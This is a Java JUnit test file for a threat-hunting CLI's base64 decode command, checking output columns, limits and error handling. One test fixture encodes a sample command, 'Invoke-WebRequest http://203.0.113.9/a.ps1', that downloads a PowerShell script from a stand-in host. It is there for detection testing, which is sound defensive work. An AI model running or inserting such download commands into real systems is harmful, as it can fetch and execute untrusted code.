package io.huntbook.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.huntbook.testing.ConformanceTest;
import io.huntbook.testing.TestData;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DecodeCommand_Test {
    private final ObjectMapper json = new ObjectMapper();

    @TempDir
    Path dir;

    @Test
    void jsonRowsCarryMsticpysColumns() throws Exception {
        Path file = dir.resolve("cmd.log");
        String encoded = Base64.getEncoder().encodeToString(
                "Invoke-WebRequest http://203.0.113.9/a.ps1".getBytes(StandardCharsets.UTF_8));
        Files.writeString(file, "cmd.exe /c echo " + encoded);

        CliRun run = CliRun.of("decode", file.toString(), "--format", "json");

        assertThat(run.exitCode()).isZero();
        JsonNode rows = json.readTree(run.out());
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).fieldNames()).toIterable().containsExactly("reference", "original_string",
                "file_name", "file_type", "input_bytes", "decoded_string", "encoding_type", "file_hashes", "md5",
                "sha1", "sha256", "printable_bytes");
        assertThat(rows.get(0).get("decoded_string").asText()).isEqualTo("Invoke-WebRequest http://203.0.113.9/a.ps1");
        assertThat(rows.get(0).get("file_hashes").get("sha256").asText()).hasSize(64);
    }

    @Test
    void decodedOptionPrintsTheMarkedUpText() throws Exception {
        Path file = dir.resolve("x.txt");
        Files.writeString(file, "a " + Base64.getEncoder().encodeToString(
                "some decoded text that is long enough".getBytes(StandardCharsets.UTF_8)));
        CliRun run = CliRun.of("decode", file.toString(), "--decoded");
        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).isEqualTo("a <decoded type='string' name='[None]' index='1' depth='1'>"
                + "some decoded text that is long enough</decoded>");
    }

    @Test
    void limitReachedIsPartialWithAWarning() throws Exception {
        Path file = dir.resolve("many.txt");
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < 5; i++) {
            text.append(Base64.getEncoder().encodeToString(("item " + i + " with enough text to count")
                    .getBytes(StandardCharsets.UTF_8))).append('\n');
        }
        Files.writeString(file, text);
        CliRun run = CliRun.of("decode", file.toString(), "--max-items", "2", "--format", "jsonl");
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.out().lines()).hasSize(2);
        assertThat(run.err()).contains("warning").contains("limit");
    }

    @Test
    void invalidUtf8IsScannedWithAWarning() throws Exception {
        Path file = dir.resolve("bin.dat");
        byte[] bytes = {(byte) 0xC3, (byte) 0x28, 'a', 'b', (byte) 0xFF};
        Files.write(file, bytes);
        CliRun run = CliRun.of("decode", file.toString(), "--format", "json");
        assertThat(run.exitCode()).isZero();
        assertThat(json.readTree(run.out())).isEmpty();
        assertThat(run.err()).contains("not valid UTF-8");
    }

    @Test
    void missingFileIsBadInput() {
        CliRun run = CliRun.of("decode", dir.resolve("nope.txt").toString());
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("no such file");
    }

    @Test
    @ConformanceTest
    void base64msgGivesEightRows() throws Exception {
        CliRun run = CliRun.of("decode", TestData.path("msticpy/data/base64msg.txt").toString(), "--format", "json");
        assertThat(run.exitCode()).isZero();
        assertThat(json.readTree(run.out())).hasSize(8);
    }
}
